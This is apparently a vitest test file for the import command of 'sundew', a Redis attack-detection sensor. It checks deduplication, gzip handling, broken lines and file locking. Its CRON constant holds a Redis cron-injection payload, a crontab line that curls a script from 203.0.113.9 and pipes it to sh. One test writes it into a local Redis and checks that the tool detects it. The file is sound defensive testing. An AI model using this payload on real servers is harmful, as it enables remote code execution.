import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, onTestFinished, test } from 'vitest';
import { temporaryData } from './peers/data-folder.ts';
import { redisCli } from './peers/redis-cli.ts';
import { startRedis } from './peers/redis-server.ts';
import { startSundew, sundew } from './peers/sundew.ts';

const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';
const LINE = '1339518083.107412 [0 198.51.100.7:60866] "set" "k" "v"\n';

function fileWith(data: { SUNDEW_DATA: string }, name: string, content: string | Buffer): string {
  const path = join(data.SUNDEW_DATA, name);
  writeFileSync(path, content);
  return path;
}

const containing = (text: string): unknown => expect.stringContaining(text);

/** What `redis-cli monitor` prints of a real server while it is attacked. */
async function monitored(): Promise<string> {
  const redis = await startRedis();
  onTestFinished(() => redis.stop());
  const monitor = spawn('redis-cli', ['-p', String(redis.port), 'monitor'], {
    stdio: ['ignore', 'pipe', 'ignore'],
  });
  let said = '';
  monitor.stdout.setEncoding('latin1').on('data', (text: string) => {
    said += text;
  });
  const until = async (word: string): Promise<void> => {
    for (let waited = 0; !said.includes(word) && waited < 10_000; waited += 20)
      await new Promise((resolve) => setTimeout(resolve, 20));
  };
  await until('OK');
  await redisCli(redis.port, ['-x', 'set', 'backup1'], CRON);
  await redisCli(redis.port, ['eval', "return redis.call('set', KEYS[1], 'by a script')", '1', 'zk9']);
  await redisCli(redis.port, ['set', 'the-end', '1']);
  await until('the-end');
  monitor.kill();
  await once(monitor, 'close');
  return said;
}

describe('sundew import', () => {
  test('finds in the recording of a real server what was done to it', async () => {
    const data = temporaryData();
    const file = fileWith(data, 'web 1.log', await monitored());

    const { code, out, err } = await sundew(['import', file], data);
    const findings = await sundew(['findings', '--json'], data);
    const indicators = await sundew(['indicators'], data);
    const events = await sundew(['events', '--ndjson'], data);

    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(out).toMatch(/monitor, 5 lines.*\n {2}3 sessions, \d+ events as sensor web_1\.log/);
    expect(findings.out).toContain('redis.cron-download');
    expect(indicators.out).toContain('http://203.0.113.9/init.sh');
    expect(events.out).toContain('"vantage":"import"');
    expect(events.out).toContain('by a script');
  }, 60_000);

  test('refuses content that was imported, packed or not, under whatever name, unless it is told to', async () => {
    const data = temporaryData();
    const plain = fileWith(data, 'a.txt', LINE);
    const packed = fileWith(data, 'b.txt.gz', gzipSync(LINE));

    const twins = await sundew(['import', plain, packed], data);
    const first = await sundew(['import', packed], data);
    const second = await sundew(['import', plain], data);
    const before = await sundew(['events', '--ndjson'], data);
    const again = await sundew(['import', plain, '--again'], data);
    const after = await sundew(['events', '--ndjson'], data);

    expect(twins).toMatchObject({ code: 2, out: '' });
    expect(first.out).toContain('sensor b.txt');
    expect(second.code).toBe(2);
    expect(second.err).toMatch(
      /was imported on \d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ already \(as b\.txt\.gz, sensor b\.txt\)/,
    );
    expect(again.code).toBe(0);
    expect(after.out.split('\n').length - 1).toBe(2 * (before.out.split('\n').length - 1));
  }, 60_000);

  test('imports the rest of a file with broken lines, says where they are and ends with 4', async () => {
    const data = temporaryData();
    const file = fileWith(data, 'mixed.txt', `${LINE}\u001b[2Jbroken\r\n${LINE}`);

    const { code, out, err } = await sundew(['import', file, '--sensor', 'edge', '--json'], data);

    expect(code).toBe(4);
    expect(err).toBe(`${file}:2: it is no line of MONITOR\n`);
    expect(JSON.parse(out)).toMatchObject({
      dryRun: false,
      files: [
        {
          format: 'monitor',
          sensor: 'edge',
          units: 3,
          sessions: 1,
          events: 6,
          broken: 1,
          first: 1_339_518_083_107,
        },
      ],
    });
  });

  test('reads what can be unpacked of a file that is cut off', async () => {
    const data = temporaryData();
    const lines = Array.from({ length: 20_000 }, (_, index) =>
      LINE.replace('"v"', `"${index * 7919}|"`),
    ).join('');
    const packed = gzipSync(lines);
    const file = fileWith(data, 'cut.gz', packed.subarray(0, packed.length - 100));

    const { code, out, err } = await sundew(['import', file, '--dry-run'], data);

    expect(code).toBe(4);
    expect(err).toContain('cut off');
    expect(Number(/monitor, (\d+) lines/.exec(out)?.[1])).toBeGreaterThan(19_000);
  });

  test('reads standard input, and with --dry-run writes nothing', async () => {
    const data = temporaryData();
    const feed = async (...words: string[]): Promise<string> => {
      const running = startSundew(['import', '-', ...words], data, 'pipe');
      running.process.stdin?.end(LINE);
      await once(running.process, 'close');
      return running.out();
    };

    const dry = await feed('--dry-run');
    const none = await sundew(['findings'], data);
    const wet = await feed();
    const events = await sundew(['events', '--ndjson'], data);

    expect(dry).toContain('dry run');
    expect(none.err).toContain('There is no journal');
    expect(wet).toContain('as sensor standard_input');
    expect(events.out.split('\n')).toHaveLength(5);
  }, 60_000);

  test('refuses what it cannot use, with a remedy', async () => {
    const data = temporaryData();
    const noise = fileWith(data, 'noise', 'hello\n');
    fileWith(data, 'imported.json', '{');

    const unknown = await sundew(['import', noise, '--dry-run'], data);
    const missing = await sundew(['import', join(data.SUNDEW_DATA, 'missing'), '--dry-run'], data);
    const folder = await sundew(['import', data.SUNDEW_DATA, '--dry-run'], data);
    const damaged = await sundew(['import', noise], data);

    expect([unknown.code, unknown.err]).toEqual([2, containing('--format')]);
    expect([missing.code, missing.err]).toEqual([2, containing('ENOENT')]);
    expect([folder.code, folder.err]).toEqual([2, containing('is no file')]);
    expect([damaged.code, damaged.err]).toEqual([2, containing('imported.json is damaged')]);
  }, 60_000);

  test('does not write while a sensor writes into the same folder', async () => {
    const data = temporaryData();
    const running = startSundew(['up', '--redis', '127.0.0.1:0', '--no-dashboard'], data);
    await running.says(/Redis sensor/);

    const { code, err } = await sundew(['import', fileWith(data, 'a.txt', LINE)], data);
    await running.stop();

    expect(code).toBe(2);
    expect(err).toContain(`is being written by process ${running.process.pid}`);
  }, 60_000);

  test('keeps what it knows of imports in a file of the data folder', async () => {
    const data = temporaryData();

    await sundew(['import', fileWith(data, 'a.txt', LINE)], data);

    const known: unknown = JSON.parse(readFileSync(join(data.SUNDEW_DATA, 'imported.json'), 'utf8'));
    expect(known).toMatchObject({ files: [{ name: 'a.txt', complete: true }] });
  });
});
